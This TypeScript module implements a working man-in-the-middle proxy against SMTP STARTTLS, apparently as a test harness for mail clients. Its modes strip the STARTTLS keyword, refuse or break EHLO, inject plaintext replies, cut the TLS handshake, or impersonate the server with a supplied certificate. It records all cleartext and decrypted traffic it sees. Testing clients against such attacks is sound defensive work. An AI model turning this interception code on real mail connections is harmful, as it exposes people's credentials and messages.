// An attacker between a client and an SMTP server: a TCP proxy that reads what it can, and that attacks STARTTLS (RFC 3207 section 6). It
// keeps every octet of the client that it could read: those in the clear, and those inside TLS that it ended itself.

import { connect, createServer, type Socket } from 'node:net'
import { connect as connectTls, createSecureContext, TLSSocket } from 'node:tls'

export type Interception =
  /** Passes everything on. */
  | { readonly kind: 'pass' }
  /** Overwrites the keyword STARTTLS in the reply to EHLO. */
  | { readonly kind: 'strip' }
  /** Answers EHLO with an error, so that the client knows no extensions. */
  | { readonly kind: 'no-ehlo' }
  /** Answers STARTTLS itself, and passes the rest on. */
  | { readonly kind: 'refuse'; readonly reply: string }
  /** Ends TLS with its own certificate and begins TLS with the server, so that it reads the session. PEM. */
  | { readonly kind: 'impersonate'; readonly certificate: string; readonly key: string }
  /** Sends a reply in the clear behind that to STARTTLS, which a careless client takes for one inside TLS. */
  | { readonly kind: 'inject'; readonly text: string }
  /** Cuts the connection after this many octets of the server's part of the handshake. */
  | { readonly kind: 'cut'; readonly after: number }

export interface ManInTheMiddle {
  /** Counts for new connections. */
  interception: Interception
  /** Everything that it read, of all connections. */
  read(): Buffer
  /** Connections so far. */
  readonly sessions: number
  close(): Promise<void>
}

interface Place {
  readonly host: string
  readonly port: number
}

/** Listens at `at`, and connects each client to `server`. */
export async function startManInTheMiddle(at: Place, server: Place, first: Interception): Promise<ManInTheMiddle> {
  const state = { interception: first, sessions: 0, chunks: [] as Buffer[], open: new Set<Socket>() }
  const listener = createServer((client) => {
    state.sessions++
    const upstream = connect(server)
    for (const socket of [client, upstream]) {
      state.open.add(socket)
      socket.on('error', () => undefined)
      socket.on('close', () => {
        state.open.delete(socket)
        client.destroy()
        upstream.destroy()
      })
    }
    new Session({ client, upstream }, state.interception, state.chunks)
  })
  await new Promise<void>((resolve, reject) => {
    listener.once('error', reject)
    listener.listen(at.port, at.host, resolve)
  })
  return {
    get interception() {
      return state.interception
    },
    set interception(next) {
      state.interception = next
    },
    read: () => Buffer.concat(state.chunks),
    get sessions() {
      return state.sessions
    },
    close: () =>
      new Promise((resolve) => {
        listener.close(() => resolve())
        for (const socket of state.open) socket.destroy()
      }),
  }
}

/** One connection, in the clear until STARTTLS. */
class Session {
  readonly #client: Socket
  readonly #upstream: Socket
  readonly #how: Interception
  readonly #chunks: Buffer[]
  #line = Buffer.alloc(0)
  /** The client has sent STARTTLS, and the server has not replied yet. */
  #isUpgrading = false

  constructor(
    { client, upstream }: { readonly client: Socket; readonly upstream: Socket },
    how: Interception,
    chunks: Buffer[],
  ) {
    this.#client = client
    this.#upstream = upstream
    this.#how = how
    this.#chunks = chunks
    client.on('data', (data: Buffer) => this.#fromClient(data))
    upstream.on('data', (data: Buffer) => this.#fromServer(data))
  }

  #fromClient(data: Buffer): void {
    this.#chunks.push(data)
    this.#line = Buffer.concat([this.#line, data])
    for (let end = this.#line.indexOf('\n'); end >= 0; end = this.#line.indexOf('\n')) {
      const line = this.#line.subarray(0, end + 1)
      this.#line = this.#line.subarray(end + 1)
      this.#command(line)
    }
  }

  #command(line: Buffer): void {
    const how = this.#how
    const verb = line.toString('latin1').trim().split(' ')[0]?.toUpperCase()
    if (verb === 'EHLO' && how.kind === 'no-ehlo') this.#client.write('502 5.5.1 Command not implemented\r\n')
    else if (verb === 'STARTTLS' && how.kind === 'refuse') this.#client.write(`${how.reply}\r\n`)
    else {
      this.#isUpgrading = verb === 'STARTTLS'
      this.#upstream.write(line)
    }
  }

  #fromServer(data: Buffer): void {
    if (this.#isUpgrading) return this.#upgrade(data)
    const isStripped = this.#how.kind === 'strip'
    this.#client.write(isStripped ? data.toString('latin1').replace(/\bSTARTTLS\b/gi, 'XXXXXXXX') : data, 'latin1')
  }

  /** After the server's reply to STARTTLS: what follows is TLS. */
  #upgrade(reply: Buffer): void {
    const how = this.#how
    this.#client.removeAllListeners('data')
    this.#upstream.removeAllListeners('data')
    if (how.kind === 'impersonate') return this.#impersonate(reply, how)
    const injected = how.kind === 'inject' ? Buffer.from(how.text) : Buffer.alloc(0)
    this.#client.write(Buffer.concat([reply, injected]))
    this.#client.pipe(this.#upstream)
    if (how.kind === 'cut') this.#cut(how.after)
    else this.#upstream.pipe(this.#client)
  }

  #cut(after: number): void {
    let left = after
    this.#upstream.on('data', (data: Buffer) => {
      const part = data.subarray(0, left)
      left -= part.length
      this.#client.write(part, () => {
        if (left === 0) this.#client.destroy()
      })
    })
  }

  #impersonate(reply: Buffer, { certificate, key }: Extract<Interception, { kind: 'impersonate' }>): void {
    const behind = connectTls({ socket: this.#upstream, rejectUnauthorized: false })
    const secureContext = createSecureContext({ cert: certificate, key })
    const front = new TLSSocket(this.#client, { isServer: true, secureContext })
    const end = () => {
      front.destroy()
      behind.destroy()
    }
    for (const socket of [front, behind]) socket.on('error', end).on('close', end)
    front.on('data', (data: Buffer) => this.#chunks.push(data))
    front.pipe(behind)
    behind.pipe(front)
    this.#client.write(reply)
  }
}
